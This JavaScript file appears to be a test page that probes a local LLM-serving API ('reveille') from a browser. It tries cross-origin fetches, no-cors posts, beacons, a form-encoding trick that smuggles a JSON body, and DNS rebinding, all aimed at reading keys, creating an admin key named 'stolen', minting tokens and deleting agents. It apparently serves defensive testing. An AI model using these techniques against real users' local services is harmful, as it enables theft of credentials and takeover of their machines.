// Tries everything that a page can send to an API on the same machine. `read` is what it could read of the answer, which is
// null when the browser or the API let it have nothing. The address's fragment is the API's port; or, for a page whose name is
// rebound, `rebound,` and the port to report to.
const [first, second] = location.hash.slice(1).split(",");
const rebound = first === "rebound";
const targets = rebound
  ? [location.origin]
  : ["127.0.0.1", "localhost", "evil.example"].map((host) => `http://${host}:${first}`);
const reportTo = rebound ? `http://127.0.0.1:${second}/report` : "/report";

const provider = "/reveille/v1/providers/gpu-box/vllm";
const chat = { model: "qwen", messages: [{ role: "user", content: "hi" }] };
const reads = ["/v1/models", "/reveille/v1/llms", "/reveille/v1/keys", "/reveille/v1/events", "/metrics", "/readyz"];
const posts = [
  ["/reveille/v1/keys", { name: "stolen", scopes: ["admin", "query", "infer:*"] }],
  ["/reveille/v1/agents/thief/tokens", {}],
  ["/v1/chat/completions", chat],
  ["/v1/chat/completions", { ...chat, stream: true }],
  [`${provider}/wake`, {}],
  [`${provider}/sleep`, {}],
];

const results = [];
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const within = (promise, ms) => Promise.race([promise, pause(ms).then(() => { throw new Error("too late"); })]);

async function attempt(what, run) {
  try {
    results.push({ what, read: (await within(run(), 15000)) ?? null });
  } catch (error) {
    results.push({ what, read: null, error: String(error) });
  }
}

async function fetched(url, options) {
  const answer = await fetch(url, options);
  const text = await answer.text();
  return answer.type === "opaque" ? null : `${answer.status} ${text}`;
}

function eventSource(url) {
  return new Promise((done) => {
    const source = new EventSource(url);
    source.onopen = () => { source.close(); done("opened"); };
    source.onerror = () => { source.close(); done(null); };
  });
}

function form(url, body) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    const form = document.createElement("form");
    frame.name = form.target = `frame-${results.length}`;
    Object.assign(form, { action: url, method: "POST", enctype: "text/plain" });
    const field = document.createElement("input");
    // The browser writes `name=value`, so the body is JSON with a field more.
    Object.assign(field, { name: JSON.stringify(body).replace(/}$/, ', "x": "'), value: '"}' });
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => {
      let text = null;
      try {
        text = frame.contentDocument.body.textContent || null;
      } catch {
        // Another origin's document.
      }
      done(text);
    };
    form.submit();
  });
}

async function tryAll(api) {
  for (const path of reads) {
    await attempt(`GET ${api}${path}`, () => fetched(api + path));
    await attempt(`GET no-cors ${api}${path}`, () => fetched(api + path, { mode: "no-cors" }));
  }
  await attempt(`follow ${api}`, () => eventSource(`${api}/reveille/v1/events?follow=true`));
  for (const [path, body] of posts) {
    const json = JSON.stringify(body);
    const post = { method: "POST", body: json };
    const untyped = new Blob([json]);
    const url = api + path;
    await attempt(`POST ${url}`, () => fetched(url, { ...post, headers: { "content-type": "application/json" } }));
    await attempt(`POST as text ${url}`, () => fetched(url, post));
    await attempt(`POST no-cors ${url}`, () => fetched(url, { ...post, mode: "no-cors" }));
    await attempt(`POST a blob ${url}`, () => fetched(url, { method: "POST", body: untyped, mode: "no-cors" }));
    await attempt(`POST a blob unreferred ${url}`, () =>
      fetched(url, { method: "POST", body: untyped, mode: "no-cors", referrerPolicy: "no-referrer" }));
    await attempt(`beacon ${url}`, async () => { navigator.sendBeacon(url, untyped); });
    await attempt(`form ${url}`, () => form(url, body));
  }
  await attempt(`DELETE ${api}`, () => fetched(`${api}/reveille/v1/agents/gpu-box`, { method: "DELETE" }));
}

const report = (what) => fetch(reportTo, { method: "POST", mode: "no-cors", body: JSON.stringify(what) });

async function untilRebound() {
  for (;;) {
    await pause(100);
    const answer = await fetch("/livez").catch(() => null);
    if (answer && answer.status !== 404) return;
  }
}

(async () => {
  if (rebound) {
    await report("loaded");
    await untilRebound();
  }
  for (const api of targets) await tryAll(api);
  await report(results);
})();
